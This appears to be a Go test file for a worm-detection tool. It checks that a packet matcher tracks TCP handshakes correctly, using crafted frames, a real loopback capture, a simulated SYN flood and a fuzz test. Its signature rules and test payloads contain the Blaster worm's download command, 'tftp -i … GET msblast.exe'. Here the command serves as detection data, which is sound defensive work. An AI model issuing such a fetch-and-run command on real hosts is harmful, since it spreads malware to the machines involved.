package wire

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"

	"wormsink/evidence"
	"wormsink/internal/evidencetest"
	"wormsink/internal/testutil"
	"wormsink/signatures"
)

// anyTCPSet has one TCP payload rule on any port, so a test can listen on
// a free port.
func anyTCPSet(t testing.TB) *signatures.Set {
	t.Helper()
	set, err := signatures.Parse("t.yaml", []byte(`serial: 1
signatures:
  - id: shell
    family: Blaster
    payloads:
      - proto: tcp
        contains: "tftp -i "
`))
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// seg is one TCP segment of the crafted conversations, as a whole
// Ethernet frame.
func seg(t testing.TB, src, dst net.IP, sport, dport uint16, flags string, seq, ack uint32, payload string) []byte {
	ip := ip4(src, dst, layers.IPProtocolTCP)
	tcp := &layers.TCP{SrcPort: layers.TCPPort(sport), DstPort: layers.TCPPort(dport), Seq: seq, Ack: ack, Window: 1000,
		SYN: strings.Contains(flags, "S"), ACK: strings.Contains(flags, "A"), RST: strings.Contains(flags, "R"), PSH: payload != ""}
	tcp.SetNetworkLayerForChecksum(ip)
	return ser(t, eth(layers.EthernetTypeIPv4), ip, tcp, gopacket.Payload(payload))
}

// The handshake decides the proof of a payload on TCP: seen complete, tcp;
// a lone segment, a handshake whose last ACK guesses the server's ISN
// wrong, or one the server reset, a datagram.
func TestTCPProofCrafted(t *testing.T) {
	const shell = "tftp -i 10.0.0.9 GET msblast.exe\r\n"
	c, s := victim, infected
	handshake := func(serverISN, finalAck uint32) [][]byte {
		return [][]byte{
			seg(t, c, s, 1040, 4444, "S", 1000, 0, ""),
			seg(t, s, c, 4444, 1040, "SA", serverISN, 1001, ""),
			seg(t, c, s, 1040, 4444, "A", 1001, finalAck, ""),
		}
	}
	tests := []struct {
		name   string
		frames [][]byte
		want   evidence.Proof
	}{
		{"established", append(handshake(5000, 5001), seg(t, c, s, 1040, 4444, "A", 1001, 5001, shell)), evidence.ProofTCP},
		{"data on the final ACK", append(handshake(5000, 5001)[:2], seg(t, c, s, 1040, 4444, "A", 1001, 5001, shell)), evidence.ProofTCP},
		{"server's own payload", append(handshake(5000, 5001), seg(t, s, c, 4444, 1040, "A", 5001, 1001, shell)), evidence.ProofTCP},
		{"lone segment", [][]byte{seg(t, c, s, 1040, 4444, "A", 1001, 5001, shell)}, evidence.ProofDatagram},
		{"guessed final ACK", append(handshake(5000, 4242), seg(t, c, s, 1040, 4444, "A", 1001, 4242, shell)), evidence.ProofDatagram},
		{"SYN/ACK for another ISN", [][]byte{
			seg(t, c, s, 1040, 4444, "S", 1000, 0, ""),
			seg(t, s, c, 4444, 1040, "SA", 5000, 77, ""),
			seg(t, c, s, 1040, 4444, "A", 1001, 5001, shell),
		}, evidence.ProofDatagram},
		{"reset", append(append(handshake(5000, 5001), seg(t, s, c, 4444, 1040, "R", 5001, 0, "")), seg(t, c, s, 1040, 4444, "A", 1001, 5001, shell)), evidence.ProofDatagram},
		{"another port", append(handshake(5000, 5001), seg(t, c, s, 1041, 4444, "A", 1001, 5001, shell)), evidence.ProofDatagram},
	}
	for _, tt := range tests {
		var rec evidencetest.Recorder
		m := NewMatcher(StaticSet{anyTCPSet(t)}, &rec, Options{})
		for i, f := range tt.frames {
			m.Packet(layers.LinkTypeEthernet, f, Meta{Time: baseTime.Add(time.Duration(i) * time.Millisecond)})
		}
		got := rec.Events()
		if len(got) != 1 || got[0].Proof != tt.want {
			t.Errorf("%s: events %+v, want one with proof %v", tt.name, got, tt.want)
		}
	}
}

// A real TCP connection on lo, captured by tcpdump: the payload rule's
// match has proof tcp. In a namespace of its own, whose loopback carries
// nothing else: on the machine's, shared with the other packages' tests
// running at the same time, one clean-clone run's capture counted 50
// packets for this connection's port, dropped 18 in the kernel and wrote
// none.
func TestTCPProofRealConnection(t *testing.T) {
	ns := string(testutil.NewNetns(t, "wstcpp"))
	var ln net.Listener
	if err := testutil.Do(ns, func() (err error) {
		ln, err = net.Listen("tcp", "127.0.0.1:0")
		return err
	}); err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	capt := testutil.Tcpdump{Iface: "lo", Netns: ns, Filter: []string{"tcp", "port", strconv.Itoa(port)}}.Start(t)
	file := capt.File

	accepted := make(chan []byte, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			accepted <- nil
			return
		}
		defer c.Close()
		buf := make([]byte, 100)
		n, _ := c.Read(buf)
		accepted <- buf[:n]
	}()
	var conn net.Conn
	if err := testutil.Do(ns, func() (err error) {
		conn, err = net.Dial("tcp", ln.Addr().String())
		return err
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write([]byte("tftp -i 127.0.0.1 GET msblast.exe\r\n")); err != nil {
		t.Fatal(err)
	}
	if got := <-accepted; !strings.HasPrefix(string(got), "tftp -i") {
		t.Fatalf("server read %q", got)
	}
	conn.Close()
	client := conn.LocalAddr().(*net.TCPAddr).AddrPort()

	// Wait until the capture holds the payload segment, then stop.
	deadline := time.Now().Add(30 * time.Second)
	for !captured(file, "tftp -i") {
		if time.Now().After(deadline) {
			// Say what tcpdump saw: its counts (printed as it stops) and
			// the packets in its file.
			capt.Stop(t)
			t.Fatalf("the payload from %v never reached the capture; tcpdump: %s; file: %s",
				conn.LocalAddr(), capt.Stderr(), describePcap(file))
		}
		time.Sleep(10 * time.Millisecond)
	}
	capt.Stop(t)

	var rec evidencetest.Recorder
	m := NewMatcher(StaticSet{anyTCPSet(t)}, &rec, Options{})
	if _, err := m.ScanFile(context.Background(), file); err != nil {
		t.Fatal(err)
	}
	got := rec.Events()
	if len(got) != 1 || got[0].Proof != evidence.ProofTCP || got[0].Host != client.Addr() || got[0].Port != client.Port() {
		t.Fatalf("events %+v, want one from %v with proof tcp", got, client)
	}
}

// describePcap summarises a pcap file for a failure message: its
// packets' lengths, or why it could not be read.
func describePcap(file string) string {
	f, err := os.Open(file)
	if err != nil {
		return err.Error()
	}
	defer f.Close()
	r, err := pcapgo.NewReader(f)
	if err != nil {
		return err.Error()
	}
	var lens []string
	for {
		data, _, err := r.ReadPacketData()
		if err != nil {
			return fmt.Sprintf("%d packets %v, then %v", len(lens), lens, err)
		}
		lens = append(lens, strconv.Itoa(len(data)))
	}
}

// captured reports whether the pcap file holds a packet containing s.
func captured(file, s string) bool {
	f, err := os.Open(file)
	if err != nil {
		return false
	}
	defer f.Close()
	r, err := pcapgo.NewReader(f)
	if err != nil {
		return false
	}
	for {
		data, _, err := r.ReadPacketData()
		if err != nil {
			return false
		}
		if strings.Contains(string(data), s) {
			return true
		}
	}
}

// A flood of SYNs from forged sources fills the table but makes nothing
// up, and costs no allocation per packet.
func TestTCPFlowsBounded(t *testing.T) {
	m := NewMatcher(StaticSet{anyTCPSet(t)}, evidencetest.Discard{}, Options{TCPFlows: 64})
	if len(m.handshakes().e) != 64 {
		t.Fatalf("%d entries for 64 flows", len(m.handshakes().e))
	}
	syn := seg(t, victim, infected, 1, 4444, "S", 1, 0, "")
	allocs := testing.AllocsPerRun(1000, func() {
		binary.BigEndian.PutUint16(syn[14+20:], binary.BigEndian.Uint16(syn[14+20:])+1) // the next source port
		m.Packet(layers.LinkTypeEthernet, syn, Meta{Time: baseTime})
	})
	if allocs != 0 {
		t.Errorf("%.1f allocations per SYN", allocs)
	}
	for _, e := range m.handshakes().e {
		if e.state != flowSyn {
			t.Fatalf("entry %+v after a SYN flood", e)
		}
	}
}

// port4444Set has one TCP payload rule, on port 4444, and a UDP one on
// port 7000.
func port4444Set(t testing.TB) *signatures.Set {
	t.Helper()
	set, err := signatures.Parse("t.yaml", []byte(`serial: 1
signatures:
  - id: shell
    family: Blaster
    payloads:
      - {proto: tcp, port: 4444, contains: "tftp -i "}
      - {proto: udp, port: 7000, contains: "msblast"}
`))
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// Handshakes are followed only where a TCP rule looks: a SYN flood to
// every other port fills no entry, so it cannot push out the handshake on
// the rule's port, whose payload still earns tcp.
func TestTCPFlowsOnlyRulePorts(t *testing.T) {
	var rec evidencetest.Recorder
	m := NewMatcher(StaticSet{port4444Set(t)}, &rec, Options{TCPFlows: 64})
	c, s := victim, infected
	at := baseTime
	send := func(f []byte) {
		at = at.Add(time.Millisecond)
		m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
	}
	send(seg(t, c, s, 1040, 4444, "S", 1000, 0, ""))
	send(seg(t, s, c, 4444, 1040, "SA", 5000, 1001, ""))
	send(seg(t, c, s, 1040, 4444, "A", 1001, 5001, ""))
	for p := range 10000 {
		send(seg(t, c, s, uint16(2000+p%2000), uint16(80+p%4000), "S", 1, 0, "")) // never 4444
	}
	for _, e := range m.handshakes().e {
		if e.state != flowFree && e.key.sport != 4444 {
			t.Fatalf("entry %+v for a port no rule looks at", e)
		}
	}
	send(seg(t, c, s, 1040, 4444, "A", 1001, 5001, "tftp -i 10.0.0.9 GET msblast.exe"))
	if got := rec.Events(); len(got) != 1 || got[0].Proof != evidence.ProofTCP {
		t.Fatalf("events %+v, want one with proof tcp", got)
	}
}

// FuzzFlows drives the table with segments among four connections and
// checks it against a plain map that follows the same rules: with room
// for them all, the two agree on every segment's verdict.
func FuzzFlows(f *testing.F) {
	f.Add([]byte{0, 1, 0, 0, 1, 3, 1, 0, 0, 2, 1, 1, 0, 0, 1})
	f.Add([]byte{0, 1, 9, 9, 1, 3, 1, 9, 10, 2})
	f.Fuzz(func(t *testing.T, in []byte) {
		fl := newFlows(64)
		type st struct {
			state      flowState
			isnC, isnS uint32
		}
		model := map[flowKey]*st{}
		a, b := netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("10.0.0.2")
		for i := 0; i+5 <= len(in); i += 5 {
			op, conn, seq, ack, fromClient := in[i]%4, in[i+1]%4, uint32(in[i+2]), uint32(in[i+3]), in[i+4]%2 == 0
			k := flowKey{client: a.As16(), server: b.As16(), cport: 1000 + uint16(conn), sport: 80}
			src, dst, sp, dp := a, b, k.cport, k.sport
			if !fromClient {
				src, dst, sp, dp = b, a, k.sport, k.cport
			}
			tcp := layers.TCP{SrcPort: layers.TCPPort(sp), DstPort: layers.TCPPort(dp), Seq: seq, Ack: ack}
			switch op {
			case 0:
				tcp.SYN = true
			case 1:
				tcp.SYN, tcp.ACK = true, true
			case 2:
				tcp.ACK = true
			case 3:
				tcp.RST = true
			}
			got := fl.observe(src, dst, &tcp, baseTime)

			// The model, from the client's and the server's side.
			want := false
			fwd := flowKey{client: src.As16(), server: dst.As16(), cport: sp, sport: dp}
			rev := flowKey{client: dst.As16(), server: src.As16(), cport: dp, sport: sp}
			switch {
			case tcp.RST:
				delete(model, fwd)
				delete(model, rev)
			case tcp.SYN && !tcp.ACK:
				model[fwd] = &st{state: flowSyn, isnC: seq}
			case tcp.SYN:
				if m := model[rev]; m != nil && m.state == flowSyn && ack == m.isnC+1 {
					m.state, m.isnS = flowSynAck, seq
				}
			default:
				if m := model[fwd]; m != nil {
					if m.state == flowSynAck && ack == m.isnS+1 && seq == m.isnC+1 {
						m.state = flowEstablished
					}
					want = m.state == flowEstablished
				} else if m := model[rev]; m != nil {
					want = m.state == flowEstablished
				}
			}
			if got != want {
				t.Fatalf("segment %d (op %d conn %d seq %d ack %d client %v): table %v, model %v", i/5, op, conn, seq, ack, fromClient, got, want)
			}
		}
	})
}

// BenchmarkFlowsObserve is the handshake table's share of a TCP segment:
// an ACK on an established flow in a table holding 32,768 flows.
func BenchmarkFlowsObserve(b *testing.B) {
	f := newFlows(DefaultTCPFlows)
	c, s := netip.MustParseAddr("10.0.0.5"), netip.MustParseAddr("10.0.0.9")
	for i := range DefaultTCPFlows {
		f.observe(c, s, &layers.TCP{SrcPort: layers.TCPPort(i), DstPort: 4444, SYN: true, Seq: 1}, baseTime)
	}
	f.observe(c, s, &layers.TCP{SrcPort: 1040, DstPort: 4444, SYN: true, Seq: 1}, baseTime)
	f.observe(s, c, &layers.TCP{SrcPort: 4444, DstPort: 1040, SYN: true, ACK: true, Seq: 9, Ack: 2}, baseTime)
	ack := &layers.TCP{SrcPort: 1040, DstPort: 4444, ACK: true, Seq: 2, Ack: 10}
	b.ReportAllocs()
	for b.Loop() {
		if !f.observe(c, s, ack, baseTime) {
			b.Fatal("not established")
		}
	}
}
